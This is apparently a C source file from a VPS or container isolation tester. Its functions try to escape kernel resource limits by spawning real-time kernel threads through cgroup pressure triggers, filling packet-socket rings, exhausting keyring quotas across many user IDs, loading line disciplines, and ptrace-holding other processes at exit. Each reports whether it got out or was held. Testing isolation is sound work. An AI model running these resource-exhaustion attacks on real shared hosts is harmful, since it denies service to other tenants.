/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Memory and threads of the kernel that no limit of a VPS counts. */
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/keyctl.h>
#include <net/ethernet.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef AF_XDP
#define AF_XDP 44
#endif

/* A trigger with a short window makes a real-time thread of the kernel, outside of every limit, if the opener
 * has CAP_SYS_RESOURCE, in whatever namespace (psi_trigger_create()). One for each group. */
int a_psi_threads(void)
{
	static const char trigger[] = "some 150000 1000000";
	char path[80];
	int made = 0, err = 0;

	for (int i = 0; i < 50; i++) {
		int fd;

		(void)snprintf(path, sizeof(path), "/sys/fs/cgroup/psi%d", i);
		mkdir(path, 0700);
		(void)snprintf(path, sizeof(path), "/sys/fs/cgroup/psi%d/cpu.pressure", i);
		fd = open(path, O_RDWR | O_CLOEXEC);
		if (fd < 0 || write(fd, trigger, sizeof(trigger)) < 0)
			err = errno;
		else
			made++;
	}
	if (made == 50)
		sleep(1);
	for (int i = 0; i < 50; i++) {
		(void)snprintf(path, sizeof(path), "/sys/fs/cgroup/psi%d", i);
		rmdir(path);
	}
	return made ? say(OUT, "%d real-time threads of the kernel", made) :
		      say(HELD, "a thread of the kernel: %s", strerror(err));
}

/* The pages of a packet socket's ring belong to nobody. */
int a_packet_ring(void)
{
	struct tpacket_req q = { .tp_block_size = 1 << 20, .tp_block_nr = 64, .tp_frame_size = 2048,
				 .tp_frame_nr = 64 * 512 };
	int n = 0;

	for (; n < 8; n++) {
		int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));

		if (fd < 0 || setsockopt(fd, SOL_PACKET, PACKET_RX_RING, &q, sizeof(q)) < 0)
			break;
	}
	return n < 8 ? say(HELD, "%d MiB in rings, then %s", n * 64, strerror(errno)) :
		       say(OUT, "512 MiB in rings");
}

int a_xdp_socket(void)
{
	return must_fail(socket(AF_XDP, SOCK_RAW | SOCK_CLOEXEC, 0), "a socket of express data paths");
}

/* Keys are counted for each user, and there are 65536. */
int a_keys_of_users_bomb(void)
{
	unsigned long total = 0;
	static char payload[90];

	for (uid_t u = 2000; u < 2100; u++) {
		int status;
		pid_t p = fork();

		if (p == 0) {
			char name[40];
			int n = 0;

			if (syscall(SYS_setresuid, u, u, u) < 0)
				_exit(0);
			for (; n < 150; n++) {
				(void)snprintf(name, sizeof(name), "k%d", n);
				if (syscall(SYS_add_key, "user", name, payload, sizeof(payload),
					    KEY_SPEC_USER_KEYRING) < 0)
					break;
			}
			_exit(n);
		}
		if (p > 0 && waitpid(p, &status, 0) == p && WIFEXITED(status))
			total += (unsigned long)WEXITSTATUS(status);
	}
	return total < 10000 ? say(HELD, "%lu keys of 100 users", total) :
			       say(OUT, "%lu keys of 100 users, and there are 65536", total);
}

/* Code of modems and buses that a terminal can be switched to. */
int a_line_discipline(void)
{
	int zero = 0, master = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC), got = -1, err = 0;
	char path[40];
	unsigned int n;

	if (master < 0 || ioctl(master, TIOCSPTLCK, &zero) < 0 || ioctl(master, TIOCGPTN, &n) < 0)
		return say(NOTHING, "no terminal");
	(void)snprintf(path, sizeof(path), "/dev/pts/%u", n);
	for (int d = 1; d < 31; d++) {
		int fd = open(path, O_RDWR | O_NOCTTY | O_CLOEXEC);

		if (ioctl(fd, TIOCSETD, &d) == 0)
			got = d;
		else
			err = errno;
		close(fd);
	}
	return got >= 0 ? say(OUT, "line discipline %d", got) : say(HELD, "line disciplines: %s", strerror(err));
}

/* Whoever comes in is held at its end, which not even SIGKILL passes, ptrace(2). Until standard input ends. */
int a_hold_exit(void)
{
	struct pollfd p = { .fd = 0, .events = POLLIN };
	unsigned int held = 0;

	puts("holding");
	while (poll(&p, 1, 1) == 0)
		for (pid_t t = 2; t < 3000; t++)
			if (t != getpid() && t != getppid() &&
			    ptrace(PTRACE_SEIZE, t, 0, PTRACE_O_TRACEEXIT) == 0)
				held++;
	return say(HELD, "%u were held", held);
}
